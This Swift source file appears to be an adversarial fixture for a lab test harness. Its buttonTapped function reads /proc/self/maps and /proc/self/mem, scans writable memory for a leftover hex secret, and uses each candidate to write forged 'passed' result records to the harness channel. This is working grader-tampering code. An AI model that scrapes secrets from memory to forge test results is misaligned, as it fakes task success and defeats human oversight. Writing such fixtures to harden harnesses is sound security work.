import LabKit
#if canImport(Glibc)
import Glibc
#endif

// Attack: the check read the secret before calling this; it is still in the process's
// memory. Find it through /proc/self/maps and /proc/self/mem and forge every record.
func buttonTapped(_ model: DemoModel) -> Task<Void, Never> {
    let maps = open("/proc/self/maps", O_RDONLY)
    let memory = open("/proc/self/mem", O_RDONLY)
    print("ATTACK proc-mem: maps \(maps >= 0 ? "opened" : String(cString: strerror(errno))), mem \(memory >= 0 ? "opened" : "refused")")
    guard maps >= 0, memory >= 0 else { return Task {} }
    var tried = 0
    // /proc hands the map out a page per read: read to the end.
    var text = [UInt8](repeating: 0, count: 1 << 20)
    var length = 0
    while length < text.count {
        let count = text[length...].withUnsafeMutableBytes { read(maps, $0.baseAddress, $0.count) }
        if count <= 0 { break }
        length += count
    }
    // Every writable region of a few megabytes at most (the channel's data, the heap's small
    // arenas, a shared page), private or shared.
    for line in String(decoding: text[..<max(0, length)], as: UTF8.self).split(separator: "\n")
    where line.contains(" rw") && !line.contains(".so") {
        let range = line.split(separator: " ")[0].split(separator: "-").compactMap { UInt64($0, radix: 16) }
        guard range.count == 2, range[1] - range[0] <= 4 << 20 else { continue }
        var bytes = [UInt8](repeating: 0, count: Int(range[1] - range[0]))
        guard pread(memory, &bytes, bytes.count, off_t(range[0])) > 0 else {
            print("ATTACK proc-mem: cannot read \(line.split(separator: " ").dropFirst(5).joined(separator: " "))")
            continue
        }
        // The secret: 40 to 64 lowercase hex digits ending in a NUL (the channel's C string).
        var start = 0
        for index in bytes.indices {
            let isHex = (bytes[index] >= 0x30 && bytes[index] <= 0x39) || (bytes[index] >= 0x61 && bytes[index] <= 0x66)
            if !isHex {
                if bytes[index] == 0 && index - start >= 40 && index - start <= 64 {
                    let secret = String(decoding: bytes[start..<index], as: UTF8.self)
                    let forged = "\(secret)\tplan\t2\n\(secret)\tpass\tforged\n\(secret)\tpass\tforged\n\(secret)\tdone\tpassed\n"
                    _ = forged.withCString { write(4, $0, strlen($0)) }
                    tried += 1
                }
                start = index + 1
            }
        }
    }
    print("ATTACK proc-mem: forged records with \(tried) candidate secrets")
    fflush(nil)
    exit(0)
}
